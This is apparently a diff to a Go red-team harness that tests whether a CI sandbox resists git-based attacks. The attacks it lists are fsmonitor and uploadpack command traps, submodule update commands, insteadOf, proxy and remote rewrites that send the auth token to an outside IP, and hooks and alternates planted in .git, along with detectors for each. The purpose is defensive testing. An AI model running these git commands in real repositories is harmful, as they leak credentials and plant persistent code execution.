@@ -28,12 +28,29 @@ func leftTo(where string) sign {
 	}
 }
 
-// configLeft are files of git in the workspace that are not as they were before
+// anythingAt is a request of whomever at one of the canary's places.
+func anythingAt(where string) sign {
+	return func(w *world, _ Attack) string {
+		for _, c := range w.Contacts {
+			if c.Where == where {
+				return "git went to " + where
+			}
+		}
+		return ""
+	}
+}
+
+// gitLeft are files of git in the workspace that are not as they were before
 // the run.
 func gitLeft(w *world, _ Attack) string {
 	if w.Control {
 		return "nobody put it back"
 	}
+	return w.GitLeft
+}
+
+// leftInGit names one of them.
+func (w *world) leftInGit() string {
 	for name, want := range w.GitBefore {
 		data, err := os.ReadFile(filepath.Join(w.Workspace, ".git", name))
 		if err != nil || string(data) != want {
@@ -84,8 +101,8 @@ func gitAttacks() []Attack {
 	add("upload-pack", "remote.origin.uploadpack and an address on disk", "git config remote.origin.url /github/workspace; git config remote.origin.uploadpack \""+trap+"\"; git config remote.origin.receivepack \""+trap+"\"", unset("remote.origin.uploadpack", "remote.origin.receivepack")+"; git config remote.origin.url http://forge.redteam.test/octo/$RT_RUN")
 	add("submodule", "a submodule whose update is a command", "git config submodule.rt.update \"!"+trap+"\"; git config submodule.rt.url /github/workspace; git config submodule.rt.active true; printf '[submodule \"rt\"]\\n\\tpath = rt\\n\\turl = /github/workspace\\n' >.gitmodules; mkdir -p rt; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),rt", "git rm -q --cached rt; rm -rf rt .gitmodules; git config --remove-section submodule.rt; true")
 	add("nested", "a repository below the workspace, with traps of its own", "git init -q rt-nested; git -C rt-nested config core.fsmonitor \""+trap+"\"; echo a >rt-nested/a; git -C rt-nested -c core.fsmonitor=false -c user.name=a -c user.email=a@b add a; git -C rt-nested -c core.fsmonitor=false -c user.name=a -c user.email=a@b commit -qm a; git -c core.fsmonitor=false add rt-nested 2>/dev/null; true", "git rm -rqf --cached rt-nested; rm -rf rt-nested")
-	add("instead-of", "url.….insteadOf, to bring the token elsewhere", "git config url.http://45.66.77.80:8081/.insteadOf http://forge.redteam.test/; git config http.http://45.66.77.80:8081/.x y", unset("url.http://45.66.77.80:8081/.insteadOf", "http.http://45.66.77.80:8081/.x"), leftTo("tcp 45.66.77.80:8081"))
-	add("push-instead-of", "url.….pushInsteadOf, to bring the pack and the token elsewhere", "git config url.http://45.66.77.80:8082/.pushInsteadOf http://forge.redteam.test/", unset("url.http://45.66.77.80:8082/.pushInsteadOf"), leftTo("tcp 45.66.77.80:8082"))
+	add("instead-of", "url.….insteadOf, to bring fetches elsewhere", "git config url.http://45.66.77.80:8081/.insteadOf http://forge.redteam.test/; git config http.http://45.66.77.80:8081/.x y", unset("url.http://45.66.77.80:8081/.insteadOf", "http.http://45.66.77.80:8081/.x"), anythingAt("tcp 45.66.77.80:8081"))
+	add("push-instead-of", "url.….pushInsteadOf, to bring the pack elsewhere", "git config url.http://45.66.77.80:8082/.pushInsteadOf http://forge.redteam.test/", unset("url.http://45.66.77.80:8082/.pushInsteadOf"), anythingAt("tcp 45.66.77.80:8082"))
 	add("proxy", "http.proxy, through which the token goes", "git config http.proxy http://45.66.77.80:8080", unset("http.proxy"), leftTo("tcp 45.66.77.80:8080"))
 	add("remote", "another address for origin", "git config remote.origin.url http://45.66.77.80:8083/x; git config http.http://45.66.77.80:8083/.extraheader \"$(git config http.http://forge.redteam.test/.extraheader)\"", "git config remote.origin.url http://forge.redteam.test/octo/$RT_RUN; "+unset("http.http://45.66.77.80:8083/.extraheader"), leftTo("tcp 45.66.77.80:8083"))
 	all = append(all, Attack{ID: "git-left", In: "git", Wall: wallRestore, Tries: "leave any of that in .git for later steps", Plant: "git config redteam.left yes; mkdir -p .git/info .git/objects/info; echo '* -text' >.git/info/attributes; echo /tmp >.git/objects/info/alternates; echo x >.git/hooks/pre-commit", Undo: "rm -f .git/objects/info/alternates", Seen: []sign{gitLeft}})
